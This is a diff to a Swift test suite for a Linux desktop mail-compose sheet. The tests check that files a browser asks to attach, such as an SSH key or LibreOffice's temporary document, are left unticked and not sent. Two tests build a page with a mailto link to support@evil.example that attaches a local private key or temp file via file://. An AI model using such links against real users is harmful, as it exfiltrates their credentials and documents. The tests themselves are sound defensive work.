@@ -14,10 +14,13 @@ extension SheetTests {
         let desktop: TestDesktop
         let secret: String
         let secretText = "-----BEGIN OPENSSH PRIVATE KEY-----\n"
+        /// A session bus that activates nothing: no portal answers there.
+        let portalFreeBus: PrivateSessionBus
 
         init() throws {
             sandbox = try Sandbox()
             desktop = try TestDesktop.shared.get()
+            portalFreeBus = try PrivateSessionBus()
             try sandbox.installXDGEmailHook()
             secret = try sandbox.write(secretText, to: "home/.ssh/id_rsa").path
         }
@@ -26,12 +29,15 @@ extension SheetTests {
         /// its `bin` (the hook) first in PATH, on the test desktop.
         var environment: [String: String] { desktop.environment(sandbox.environment()) }
 
-        /// A page that is one big link, at the top left of the screen.
-        func openPage() throws -> BrowserPage {
+        /// A page that is one big link, at the top left of the screen, in `browser` on
+        /// `bus`. Chromium's default is a session bus with no portal on it, so that its
+        /// link goes through xdg-email whatever portals the machine has installed.
+        func openPage(_ browser: BrowserPage.Browser = .chromium, bus: String? = nil) throws -> BrowserPage {
             let link = "mailto:support@evil.example?subject=Support&amp;attach=file://\(secret)"
             return try BrowserPage(
                 body: "<a href=\"\(link)\" style=\"display:block;width:100vw;height:100vh\">Contact support</a>",
-                desktop: desktop, environment: environment, directory: sandbox.root)
+                desktop: desktop, environment: environment, directory: sandbox.root, browser: browser,
+                bus: bus ?? (browser == .chromium ? portalFreeBus.address : nil))
         }
 
         func screenshot(_ name: String) -> String {
@@ -45,6 +51,20 @@ extension SheetTests {
         func arrived(at server: SMTPTestServer) -> URL? {
             try? waitUntil("a message arrives") { !server.messages.isEmpty }
             return server.messages.first
+        }
+
+        /// The parts of the first message `server` received, as Python's email package reads them.
+        func arrivedParts(at server: SMTPTestServer) throws -> [[String: Any]] {
+            let message = try #require(arrived(at: server))
+            return try #require(try pythonView(of: message)["parts"] as? [[String: Any]])
+        }
+
+        /// Debian's real senddoc as LibreOffice runs it to mail `document` (Budget.odt) to
+        /// ann@example.com, in `scope` when given.
+        func startSenddoc(_ document: String, in scope: AppScope?) throws -> DesktopProgram {
+            let command = ["/usr/lib/libreoffice/program/senddoc", "--mailclient", "sensible-lomua",
+                           "--to", "ann@example.com", "--subject", "Budget.odt", "--attach", document]
+            return try DesktopProgram(scope?.wrap(command) ?? command, environment: environment, directory: sandbox.root)
         }
 
         func outcomes() -> [String] {
@@ -71,6 +91,13 @@ extension SheetTests {
             try waitUntil("the outcome is logged") { outcomes().last != nil }
             let line = try #require(outcomes().last)
             #expect(line.contains("not attached: \(secret) (Chromium asked for it"), "\(line)")
+            #expect(try arrival(in: line) == ["xdg-email", "Chromium"], "\(line)")
+        }
+
+        /// How the outcome log says the link arrived: its `arrival` and `requestedBy`.
+        func arrival(in line: String) throws -> [String?] {
+            let object = try JSONSerialization.jsonObject(with: Data(line.utf8)) as? [String: Any]
+            return [object?["arrival"] as? String, object?["requestedBy"] as? String]
         }
 
         /// (b) An account and a display: the click opens the sheet, which lists the key
@@ -83,15 +110,14 @@ extension SheetTests {
             try page.click(x: 400, y: 300)
             let steps = try desktop.drive([
                 "wait-sheet", "wait-label:Chromium asks to attach", "state:\(secret)", screenshot("chromium-unticked-attach"),
-                "append:Message:Hello", "key:ctrl+Return", "wait-gone",
+                "append:Message:Hello", "key:ctrl+Return", "wait-window:Send without id_rsa?", "press:Send Without It", "wait-gone",
             ], timeout: 30)
             let row = try #require(steps.first { $0["step"] as? String == "state" })
             #expect(row["checked"] as? Bool == false, "\(row)")
             #expect(row["enabled"] as? Bool == true, "a person can still tick it: \(row)")
-            let message = try #require(arrived(at: server))
-            let parts = try #require(try pythonView(of: message)["parts"] as? [[String: Any]])
+            let parts = try arrivedParts(at: server)
             #expect(parts.allSatisfy { $0["disposition"] as? String != "attachment" }, "\(parts)")
-            #expect(try !String(contentsOf: message, encoding: .utf8).contains("OPENSSH"))
+            #expect(try !String(contentsOf: try #require(server.messages.first), encoding: .utf8).contains("OPENSSH"))
         }
 
         /// LibreOffice's "Send document as e-mail": the real senddoc from LibreOffice's app
@@ -101,21 +127,111 @@ extension SheetTests {
             try writeAccount(sandbox, port: server.port, security: "none")
             let document = try sandbox.write("the budget\n", to: "lu4242.tmp/Budget.odt").path
             let scope = try AppScope(unit: #"app-gnome-libreoffice\x2dcalc-\#(getpid()).scope"#)
-            let senddoc = try DesktopProgram(
-                scope.wrap(["/usr/lib/libreoffice/program/senddoc", "--mailclient", "sensible-lomua",
-                            "--to", "ann@example.com", "--subject", "Budget.odt", "--attach", document]),
-                environment: environment, directory: sandbox.root)
+            let senddoc = try startSenddoc(document, in: scope)
             let steps = try desktop.drive([
                 "wait-sheet", "state:Budget.odt", screenshot("libreoffice-document"), "press:Send", "wait-gone",
             ], timeout: 30)
             _ = senddoc.finish()
             let row = try #require(steps.first { $0["step"] as? String == "state" })
             #expect(row["checked"] as? Bool == true, "\(row)")
-            let message = try #require(arrived(at: server))
-            let parts = try #require(try pythonView(of: message)["parts"] as? [[String: Any]])
+            let parts = try arrivedParts(at: server)
             let attached = parts.filter { $0["disposition"] as? String == "attachment" }
             #expect(attached.map { $0["filename"] as? String } == ["Budget.odt"], "\(parts)")
             #expect(attached.first?["sha256"] as? String == sha256(Data("the budget\n".utf8)))
+        }
+
+        /// Where nothing proves who asked (Debian's senddoc run with no LibreOffice behind
+        /// it), the document is listed unticked with the reason, and Send asks before it
+        /// goes without it; only "Send Without It" sends the message, and without it.
+        @Test func anUnprovenDocumentIsUntickedAndSendAsksFirst() throws {
+            let server = try SMTPTestServer(.plain)
+            try writeAccount(sandbox, port: server.port, security: "none")
+            let document = try sandbox.write("the budget\n", to: "lu4242.tmp/Budget.odt").path
+            let senddoc = try startSenddoc(document, in: nil)
+            let steps = try desktop.drive([
+                "wait-sheet", "state:\(document)", "wait-label:Not ticked: nothing shows", "press:Send",
+                "wait-window:Send without Budget.odt?", screenshot("unproven-document-question"), "press:Send Without It",
+                "wait-gone",
+            ], timeout: 30)
+            _ = senddoc.finish()
+            let row = try #require(steps.first { $0["step"] as? String == "state" })
+            #expect(row["checked"] as? Bool == false, "\(row)")
+            let parts = try arrivedParts(at: server)
+            #expect(parts.allSatisfy { $0["disposition"] as? String != "attachment" }, "\(parts)")
+        }
+
+        // MARK: - LibreOffice started from a terminal
+
+        /// The sandbox's environment with a temporary directory of its own (`TMPDIR`), in
+        /// which LibreOffice makes its own (`lu<PID>….tmp`).
+        func officeEnvironment() throws -> [String: String] {
+            let temporary = sandbox.root.appendingPathComponent("tmp")
+            try FileManager.default.createDirectory(at: temporary, withIntermediateDirectories: true)
+            var environment = environment
+            environment["TMPDIR"] = temporary.path
+            return environment
+        }
+
+        /// An account on a fresh SMTP server, and the real LibreOffice, started outside any
+        /// scope, doing Email Document on a file `name` holding `text`: both kept running.
+        func emailDocumentFromLibreOffice(_ name: String, text: String) throws -> (SMTPTestServer, LibreOffice) {
+            let server = try SMTPTestServer(.plain)
+            try writeAccount(sandbox, port: server.port, security: "none")
+            let document = try sandbox.write(text, to: "files/\(name)").path
+            let office = try LibreOffice(environment: try officeEnvironment(), directory: sandbox.root)
+            try office.emailDocument(document)
+            return (server, office)
+        }
+
+        /// The files under LibreOffice's temporary directories in the sandbox's `TMPDIR`.
+        func officeTemporaryFiles() -> [URL] {
+            let temporary = sandbox.root.appendingPathComponent("tmp")
+            let walker = FileManager.default.enumerator(at: temporary, includingPropertiesForKeys: nil)
+            return (walker?.allObjects as? [URL] ?? []).filter {
+                $0.path.contains("/lu") && (try? $0.resourceValues(forKeys: [.isRegularFileKey]))?.isRegularFile == true
+            }
+        }
+
+        /// Issue 33: LibreOffice's real "Email Document" from a LibreOffice started outside
+        /// any app scope (as from a terminal, or on openbox, Xfce, i3), where Debian's
+        /// senddoc backgrounds xdg-email and exits: the sheet lists the document ticked,
+        /// and Send mails it, byte for byte the file LibreOffice handed over (Python's
+        /// email package reads the message).
+        @Test func libreOfficeEmailDocumentOutsideAnyScopeSendsTheDocument() throws {
+            let (server, office) = try emailDocumentFromLibreOffice("Budget.txt", text: "The budget, line by line.\n")
+            let steps = try desktop.drive([
+                "wait-sheet", "state:Budget.txt", screenshot("libreoffice-no-scope-document"), "type:To:ann@example.com",
+                "press:Send", "wait-gone",
+            ], timeout: 30)
+            let row = try #require(steps.first { $0["step"] as? String == "state" })
+            #expect(row["checked"] as? Bool == true, "\(row)")
+            let parts = try arrivedParts(at: server)
+            let attached = parts.filter { $0["disposition"] as? String == "attachment" }
+            #expect(attached.map { $0["filename"] as? String } == ["Budget.txt"], "\(parts)")
+            let handedOver = try #require(officeTemporaryFiles().first { $0.lastPathComponent == "Budget.txt" })
+            #expect(attached.first?["sha256"] as? String == sha256(try Data(contentsOf: handedOver)))
+            #expect(outcomes().last?.contains("not attached") == false, "\(outcomes())")
+            withExtendedLifetime(office) {}
+        }
+
+        /// Rule 8 with LibreOffice running: a web page whose link names the document
+        /// LibreOffice has just handed over, in its own temporary directory, gets it listed
+        /// unticked as Chromium's ask; only LibreOffice's own xdg-email is trusted with it.
+        @Test func aPageNamingLibreOfficesTemporaryFileGetsItUnticked() throws {
+            let (server, office) = try emailDocumentFromLibreOffice("Salaries.txt", text: "Salaries\n")
+            _ = try desktop.drive(["wait-sheet", "state:Salaries.txt", "press:Cancel", "wait-gone"], timeout: 30)
+            let inside = try #require(officeTemporaryFiles().first { $0.lastPathComponent == "Salaries.txt" }).path
+            let page = try BrowserPage(
+                body: "<a href=\"mailto:support@evil.example?subject=Support&amp;attach=file://\(inside)\" "
+                    + "style=\"display:block;width:100vw;height:100vh\">Contact support</a>",
+                desktop: desktop, environment: environment, directory: sandbox.root, bus: portalFreeBus.address)
+            try page.click(x: 400, y: 300)
+            let steps = try desktop.drive([
+                "wait-sheet", "wait-label:Chromium asks to attach", "state:\(inside)", "press:Cancel", "wait-gone",
+            ], timeout: 30)
+            let row = try #require(steps.first { $0["step"] as? String == "state" })
+            #expect(row["checked"] as? Bool == false, "\(row)")
+            withExtendedLifetime((server, office)) {}
         }
     }
 }
